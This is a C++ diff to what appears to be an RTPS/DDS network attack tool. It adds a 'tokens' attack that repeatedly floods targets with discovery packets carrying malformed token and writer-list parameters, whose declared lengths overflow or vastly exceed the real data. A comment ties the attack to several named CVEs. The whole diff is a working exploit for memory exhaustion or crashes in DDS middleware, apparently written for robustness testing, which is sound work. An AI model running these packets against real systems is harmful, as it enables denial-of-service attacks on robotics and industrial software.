@@ -209,6 +209,59 @@ void Strangers(const Target& target, UdpSender* sender) {
   }
 }
 
+// A parameter of discovery, and the numbers of 32 bits that are its value.
+PacketBytes Parameter(std::uint16_t id, const std::vector<std::uint32_t>& numbers) {
+  const std::size_t bytes = 4 * numbers.size();
+  PacketBytes parameter;
+  const auto append = [&](std::size_t number, std::size_t size) {
+    for (std::size_t i = 0; i < size; ++i) {
+      parameter.push_back(static_cast<std::uint8_t>(number >> (8 * i)));
+    }
+  };
+  append(id, 2);
+  append(bytes, 2);
+  for (const std::uint32_t number : numbers) append(number, 4);
+  return parameter;
+}
+
+// What a participant says of a writer, with that.
+PacketBytes WriterOf(const PrefixBytes& prefix, std::int64_t number, const PacketBytes& parameter) {
+  PacketBytes payload = {0, 3, 0, 0, 0x5a, 0, 16, 0};
+  payload.insert(payload.end(), prefix.begin(), prefix.end());
+  payload.insert(payload.end(), {0, 0, 1, 3});
+  payload.insert(payload.end(), parameter.begin(), parameter.end());
+  payload.insert(payload.end(), {1, 0, 0, 0});
+  return RtpsPacket(prefix).Data(0x000003c2, number, payload, 0x000003c7).Bytes();
+}
+
+// A stranger whose tokens, and whose writers' lists, state more than there is: CVE-2025-62599 to
+// 62602, CVE-2025-64098, CVE-2026-49861.
+void Tokens(const Target& target, UdpSender* sender) {
+  constexpr std::uint32_t kName = 0x41;  // of 2 bytes, with its NUL
+  constexpr std::uint32_t kMany = 60'000'000;
+  const std::vector<std::vector<std::uint32_t>> tokens = {
+      {0xffff'fff0, 0, 0, 0},
+      {2, kName, kMany, 0, 0},
+      {2, kName, 0, kMany, 0, 0},
+      {2, kName, 0, 1, 2, kName, 3'000'000'000, 0, 0},
+      {2, kName, 0, 1, 2, kName, 0xffff'fff8, 0, 0}};
+  const std::vector<PacketBytes> lists = {Parameter(0x73, {400'000'000, 0}),
+                                          Parameter(0x59, {0x7fff'ffff, 4, kName, 4, kName}),
+                                          Parameter(0x29, {2, 0x7fff'ff00, kName})};
+  const PrefixBytes prefix{1, 15, 67};
+  const auto begun = std::chrono::steady_clock::now();
+  for (std::int64_t turn = 1; !IsOver(begun, target); ++turn) {
+    SendToAll(RtpsPacket(prefix).Announcement(prefix, turn).Bytes(), target, sender);
+    for (const PacketBytes& list : lists) SendToAll(WriterOf(prefix, turn, list), target, sender);
+    for (const std::uint16_t id : {std::uint16_t{0x1001}, std::uint16_t{0x1002}}) {
+      for (const std::vector<std::uint32_t>& token : tokens) {
+        const PacketBytes more = Parameter(id, token);
+        SendToAll(RtpsPacket(prefix).Announcement(prefix, turn, 20, more).Bytes(), target, sender);
+      }
+    }
+  }
+}
+
 void SpoilNumber(PacketBytes* packet, std::size_t at, std::mt19937_64* random) {
   constexpr std::uint8_t kExtremes[] = {0, 1, 0x7f, 0x80, 0xff};
   const std::size_t size = std::size_t{1} << ((*random)() % 4);
@@ -281,10 +334,10 @@ std::uint16_t UnicastPort(std::uint32_t domain, std::uint32_t participant, bool 
 
 const std::map<std::string, Attack>& Attacks() {
   static const std::map<std::string, Attack> kAttacks{
-      {"flood", Flood},        {"fragments", Fragments},   {"fuzz", Fuzz},
-      {"gaps", Gaps},          {"heartbeats", Heartbeats}, {"jumps", Jumps},
-      {"replay", Replay},      {"statistics", Statistics}, {"steps", Steps},
-      {"strangers", Strangers}};
+      {"flood", Flood},         {"fragments", Fragments},   {"fuzz", Fuzz},
+      {"gaps", Gaps},           {"heartbeats", Heartbeats}, {"jumps", Jumps},
+      {"replay", Replay},       {"statistics", Statistics}, {"steps", Steps},
+      {"strangers", Strangers}, {"tokens", Tokens}};
   return kAttacks;
 }
 
